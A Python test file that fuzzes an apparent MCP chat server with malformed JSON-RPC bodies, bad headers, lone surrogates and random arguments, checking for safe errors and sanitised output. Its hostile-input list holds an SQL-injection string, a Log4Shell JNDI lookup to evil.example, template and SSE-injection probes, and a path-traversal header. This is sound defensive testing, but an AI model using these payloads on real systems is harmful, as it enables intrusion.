"""Bad input of any kind: an answer below 500, with nothing internal in it, and strangers still meet."""

from __future__ import annotations

import asyncio
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mcp_facade.tools.catalogue import TOOLS
from tests.facade.people import ACCEPT, Crowd, Era, Person, crowd, last_answer, texts
from tests.support.examples import scaled
from tests.support.server import Running, eventually, serving

pytestmark = pytest.mark.anyio

MIB = 1_048_576

BODIES: dict[str, bytes] = {
    "empty": b"",
    "not JSON": b"hello",
    "half": b'{"jsonrpc": "2.0", "id": 1, "method": "tools/ca',
    "invalid UTF-8": b'{"jsonrpc": "2.0", "id": 1, "method": "\xff\xfe"}',
    "UTF-16": '{"jsonrpc": "2.0", "id": 1, "method": "ping"}'.encode("utf-16"),
    "BOM": b'\xef\xbb\xbf{"jsonrpc": "2.0", "id": 1, "method": "ping"}',
    "deep array": b"[" * 10_000 + b"]" * 10_000,
    "deep object": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "deep argument": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_status","arguments":{"x":'
    + b"[" * 10_000
    + b"]" * 10_000
    + b"}}}",
    "deep and open": b"[" * 10_000,
    "batch": b'[{"jsonrpc":"2.0","id":1,"method":"ping"},{"jsonrpc":"2.0","id":2,"method":"ping"}]',
    "empty batch": b"[]",
    "null": b"null",
    "number": b"7",
    "huge number": b"9" * 10_000,
    "huge id": b'{"jsonrpc":"2.0","id":' + b"9" * 5_000 + b',"method":"ping"}',
    "float id": b'{"jsonrpc":"2.0","id":1.5,"method":"ping"}',
    "null id": b'{"jsonrpc":"2.0","id":null,"method":"ping"}',
    "object id": b'{"jsonrpc":"2.0","id":{},"method":"ping"}',
    "surrogate id": b'{"jsonrpc":"2.0","id":"\\ud800","method":"ping"}',
    "NaN": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_status","arguments":{"x":NaN}}}',
    "string": b'"tools/call"',
    "no method": b'{"jsonrpc": "2.0", "id": 1}',
    "no version": b'{"id": 1, "method": "ping"}',
    "wrong version": b'{"jsonrpc": "1.0", "id": 1, "method": "ping"}',
    "params array": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":[1]}',
    "params string": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":"x"}',
    "no params": b'{"jsonrpc":"2.0","id":1,"method":"tools/call"}',
    "no name": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"arguments":{}}}',
    "name of a number": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":7}}',
    "arguments array": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_status","arguments":[]}}',
    "meta of a number": b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_status","_meta":7}}',
    "unknown method": b'{"jsonrpc":"2.0","id":1,"method":"rooms/list"}',
    "response": b'{"jsonrpc":"2.0","id":1,"result":{}}',
    "error": b'{"jsonrpc":"2.0","id":1,"error":{"code":1,"message":"x"}}',
    "unknown notification": b'{"jsonrpc":"2.0","method":"notifications/xyzzy"}',
    "cancelled nothing": b'{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":"x"}}',
    "cancelled badly": b'{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":{}}}',
    "progress of nothing": b'{"jsonrpc":"2.0","method":"notifications/progress","params":{"progressToken":1}}',
    "second initialize": b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}',
    "duplicate keys": b'{"jsonrpc":"2.0","id":1,"id":2,"method":"ping","method":"tools/list"}',
    "NUL": b"\x00" * 100,
    "5 MiB": b'{"jsonrpc":"2.0","id":1,"method":"' + b"x" * 5 * MIB + b'"}',
    "just below 1 MiB": b'{"jsonrpc":"2.0","id":1,"method":"' + b"x" * (MIB - 100) + b'"}',
}

HEADERS: dict[str, dict[str, str]] = {
    "no content type": {"content-type": ""},
    "form": {"content-type": "application/x-www-form-urlencoded"},
    "text": {"content-type": "text/plain"},
    "no accept": {"accept": ""},
    "accepts HTML": {"accept": "text/html"},
    "accepts JSON alone": {"accept": "application/json"},
    "accepts events alone": {"accept": "text/event-stream"},
    "version of nonsense": {"mcp-protocol-version": "yesterday"},
    "version empty": {"mcp-protocol-version": ""},
    "version long": {"mcp-protocol-version": "2" * 5_000},
    "version of 2024": {"mcp-protocol-version": "2024-11-05"},
    "session of nonsense": {"mcp-session-id": "../../etc/passwd"},
    "session long": {"mcp-session-id": "a" * 5_000},
    "session empty": {"mcp-session-id": ""},
    "method of another": {"mcp-method": "tools/list"},
    "name of another": {"mcp-name": "enter_queue"},
    "name badly encoded": {"mcp-name": "=?base64?%%%?="},
    "length of nonsense": {"content-encoding": "gzip"},
    "last event": {"last-event-id": "x" * 5_000},
    "expects": {"expect": "200-ok"},
}

HOSTILE = [
    "'; DROP TABLE rooms; --",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}} %s %n {0} {handle}",
    "data: x\n\nid: 7\r\n\r\nevent: message\r\ndata: {}",
    '"}]}}\n{"jsonrpc":"2.0"}',
    "\u2028\u2029\u0085\x0b\x0c",
    "\u202e\u2066\U000e0041\ufeff",
    "Z" + "\u0301" * 2_000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "\ufdfa" * 100,
    "a\x00b",
]


@pytest.fixture
async def there() -> AsyncIterator[Crowd]:
    """People at a server; strangers must still meet there after the test."""
    async with serving() as running, crowd(running) as people:
        yield people
        await strangers_still_meet(running)


async def strangers_still_meet(running: Running) -> None:
    """Two newcomers of different eras are paired, and hear each other."""
    async with crowd(running) as newcomers:
        while running.broker.state.queue:  # people left in the queue by the test
            await (await newcomers.modern()).enter()
        ann, bob = await newcomers.pair("2025", "2026")
        await bob.say("hello")
        assert texts(await ann.hear()) == ["hello"]


def check(response: httpx.Response, what: Any) -> None:
    """Check that the answer blames the caller, and shows nothing internal."""
    assert response.status_code < 500, what
    for ours in ("Traceback", 'File "', "site-packages", "mcp_facade"):
        assert ours not in response.text, what


async def test_bodies_that_are_no_request(there: Crowd, era: Era, log_text: io.StringIO) -> None:
    """Each is answered below 500, and the broker is unharmed."""
    person = await there.person(era)
    for what, body in BODIES.items():
        response = await person.post(body, person.headers("tools/call", "get_status"))
        check(response, what)
        if what == "5 MiB":
            assert response.status_code == 413
        if what in ("empty", "not JSON", "half", "invalid UTF-8", "batch", "deep array", "NUL"):
            assert response.status_code == 400, what
    assert "Traceback" not in log_text.getvalue()


async def test_headers_that_make_no_sense(there: Crowd, era: Era) -> None:
    """Each is answered below 500."""
    person = await there.person(era)
    params = person.params({"name": "get_status", "arguments": {}})
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}).encode()
    for what, headers in HEADERS.items():
        response = await person.post(body, person.headers("tools/call", "get_status") | headers)
        check(response, what)


async def test_an_unknown_tool_is_an_error_of_the_protocol(there: Crowd, era: Era) -> None:
    """The error is -32602 and does not repeat the name; hosts tell it apart from a tool's refusal."""
    person = await there.person(era)
    for name in ("xyzzy", "", "Enter_Queue", "enter_queue ", "__class__", "x" * 5_000):
        answer = await person.request("tools/call", {"name": name, "arguments": {}})
        assert answer["error"]["code"] == -32602, name[:20]
        assert "result" not in answer
        assert "xyzzy" not in str(answer)


async def test_lone_surrogates_are_refused(there: Crowd, era: Era) -> None:
    """Half a character is `invalid_arguments` in both eras, though the SDK can't read such a body in one of them."""
    ann, bob = await there.pair(era, era)
    room = {"room_id": ann.room_id, "handle": ann.handle}
    cases: list[tuple[str, dict[str, Any]]] = [
        ("send_message", room | {"message": "half \ud83d"}),
        ("send_message", room | {"message": "\udc00\ud800"}),
        ("send_message", room | {"message": "x", "message_id": "\ud800"}),
        ("enter_queue", {"display_name": "\ud800"}),
        ("enter_queue", {"interests": ["\udfff"]}),
        ("get_status", {"handle": "\ud800"}),
        ("leave_chat", {"room_id": "\ud800"}),
        ("block_partner", {"room_id": "\ud800"}),
        ("report_partner", room | {"category": "\ud800"}),
        ("report_partner", room | {"category": "spam", "note": "half \ud83d"}),
        ("leave_chat", {"\ud800": 1}),
    ]
    for tool, arguments in cases:
        response = await ann.exchange("tools/call", {"name": tool, "arguments": arguments})
        check(response, arguments)
        result = last_answer(response)["result"]
        assert result["isError"] is True
        assert result["structuredContent"]["code"] == "invalid_arguments"
    await ann.say("whole \U0001f600")
    assert texts(await bob.hear()) == ["whole \U0001f600"]


@pytest.mark.parametrize(
    ("tool", "argument"), [("send_message", "message"), ("enter_queue", "display_name"), ("leave_chat", "room_id")]
)
async def test_lone_surrogates_as_bytes_are_refused(there: Crowd, tool: str, argument: str) -> None:
    """Half a character written as bytes, which are no UTF-8, is `invalid_arguments` if it can be read at all."""
    ann, _ = await there.pair()
    arguments = {"room_id": ann.room_id, "message": "x", "handle": ann.handle} if tool != "enter_queue" else {}
    arguments = {name: value for name, value in arguments.items() if tool == "send_message" or name != "message"}
    params = ann.params({"name": tool, "arguments": arguments | {argument: "@half@"}})
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}).encode()
    response = await ann.post(body.replace(b"@half@", b"\xed\xa0\x80"), ann.headers("tools/call", tool))
    result = last_answer(response)["result"]
    assert result["structuredContent"]["code"] == "invalid_arguments"


async def test_lone_surrogates_outside_the_arguments(there: Crowd, era: Era) -> None:
    """In a tool's name, a URI, a prompt's name or argument, or a progress token, they break nothing."""
    person = await there.person(era)
    for method, params in (
        ("tools/call", {"name": "\ud800"}),
        ("resources/read", {"uri": "chat://inbox/\ud800"}),
        ("resources/read", {"uri": "\ud800"}),
        ("resources/subscribe", {"uri": "chat://inbox/\ud800"}),
        ("prompts/get", {"name": "\ud800"}),
        ("prompts/get", {"name": "chat", "arguments": {"display_name": "\ud800"}}),
        ("tools/call", {"name": "get_status", "_meta": {"progressToken": "\ud800"}}),
        ("subscriptions/listen", {"notifications": {"resourceSubscriptions": "\ud800"}}),
        ("subscriptions/listen", {"notifications": {"\ud800": ["\ud800"], "resourceSubscriptions": 7}}),
    ):
        body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": person.params(params)}).encode()
        for headers in (person.headers(method, None), person.headers(method, "x")):
            check(await person.post(body, headers), (method, params))


async def test_hostile_words_arrive_as_words(there: Crowd, era: Era) -> None:
    """On a stream and in a result each is one JSON string, cleaned alike, and nothing else changes shape."""
    ann, bob = await there.pair(era, era)
    await ann.hear()
    async with ann.stream() as frames:
        for text in HOSTILE:
            result = await bob.tool("send_message", {"room_id": bob.room_id, "message": text, "handle": bob.handle})
            if result.get("isError"):
                assert result["structuredContent"]["code"] in ("message_empty", "message_too_large")
                continue
            pushed = await frames.next()
            (pulled,) = await ann.hear()
            assert pushed.params == pulled["params"]
            assert set(pushed.params) == {"room_id", "message", "timestamp", "cursor", "sender"}
            assert not set(pushed.params["message"]) & set("\x00\x1b\x0b\x0c\u0085\u202e\u2066\ufeff\u2028\u2029")


async def test_hostile_names_become_names(there: Crowd, era: Era) -> None:
    """The partner always sees 1 to 40 harmless characters."""
    for name in [*HOSTILE, "Ann\nEve: hi", "<script>", "A" * 999, "😀", "\u0301\u0301"]:
        ann, bob = await there.person(era), await there.person(era)
        await ann.enter(name[:999])
        partner = (await bob.enter())["partner"]
        assert 1 <= len(partner) <= 40
        assert not set(partner) & set('<>"\\{}[]$;:\n\r\t\x00\u202e')


async def test_hostile_room_ids_and_message_ids_are_unknown_or_invalid(there: Crowd, era: Era) -> None:
    """They are looked up or refused, never used for anything else."""
    ann, _ = await there.pair(era, era)
    for text in HOSTILE:
        refusal = await ann.refused("leave_chat", room_id=text, handle=ann.handle)
        assert refusal["code"] in ("room_not_found", "invalid_arguments")
        refusal = await ann.refused(
            "send_message", room_id=ann.room_id, message="x", message_id=text, handle=ann.handle
        )
        assert refusal["code"] == "invalid_arguments"


async def test_a_request_in_two_pieces_is_read_whole(there: Crowd, era: Era) -> None:
    """A slow body, in chunks that split a character, is one body."""
    ann, bob = await there.pair(era, era)
    params = {"name": "send_message", "arguments": {"room_id": ann.room_id, "message": "é", "handle": ann.handle}}
    body = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": ann.params(params)}
    raw = json.dumps(body, ensure_ascii=False).encode()

    async def trickle() -> AsyncIterator[bytes]:
        for byte in raw:
            yield bytes([byte])

    headers = {"content-type": "application/json", "accept": ACCEPT} | ann.headers("tools/call", "send_message")
    response = await ann.http.post(there.running.url, content=trickle(), headers=headers)
    assert last_answer(response)["result"]["structuredContent"]["success"] is True
    assert texts(await bob.hear()) == ["é"]


async def test_a_client_that_leaves_in_the_middle_of_its_request_is_no_fault(there: Crowd, era: Era) -> None:
    """Half a request and then nothing: no error in the log, and nothing is kept of it."""
    ann, _ = await there.pair(era, era)
    headers = {"host": "localhost", "content-type": "application/json", "accept": ACCEPT, "content-length": "100"}
    head = "".join(f"{name}: {value}\r\n" for name, value in (headers | ann.headers("tools/list", None)).items())
    connections = there.running.connections
    for body in ("", '{"jsonrpc": "2.0", '):
        _, writer = await asyncio.open_connection("127.0.0.1", there.running.port)
        writer.write(f"POST /mcp HTTP/1.1\r\n{head}\r\n{body}".encode())
        await eventually(lambda: there.running.connections == connections + 1)
        writer.close()
        await eventually(lambda: there.running.connections == connections)
    await ann.say("still here")


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3),
    max_leaves=8,
)
NAMES = sorted({name for tool in TOOLS for name in tool.input_schema["properties"]})
CODES = ["invalid_arguments", "unknown_handle", "room_not_found", "already_chatting", "message_empty"]
ARGUMENTS = st.dictionaries(st.sampled_from(NAMES) | st.text(max_size=5), JSON, max_size=5)


@pytest.fixture
async def targets() -> AsyncIterator[list[Person]]:
    """A person of each era, at one server."""
    async with serving() as running, crowd(running) as people:
        yield [await people.session(), await people.modern()]
        await strangers_still_meet(running)


@given(tool=st.sampled_from([tool.name for tool in TOOLS]), arguments=ARGUMENTS)
@settings(
    max_examples=scaled(60),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],  # one server takes all of it
)
async def test_any_arguments_get_a_result_or_a_refusal(
    targets: list[Person], tool: str, arguments: dict[str, Any]
) -> None:
    """Random JSON in any argument of any tool is answered in the tool's own words."""
    if "wait_seconds" in arguments and arguments["wait_seconds"] not in (0, None):
        arguments["wait_seconds"] = -1  # a wait is no input error, and takes its time
    for person in targets:
        response = await person.exchange("tools/call", {"name": tool, "arguments": arguments})
        check(response, (tool, arguments))
        answer = last_answer(response)
        if "result" in answer:
            result = answer["result"]
            assert json.loads(result["content"][0]["text"]) == result["structuredContent"]
            if result.get("isError"):
                assert result["structuredContent"]["code"] in CODES
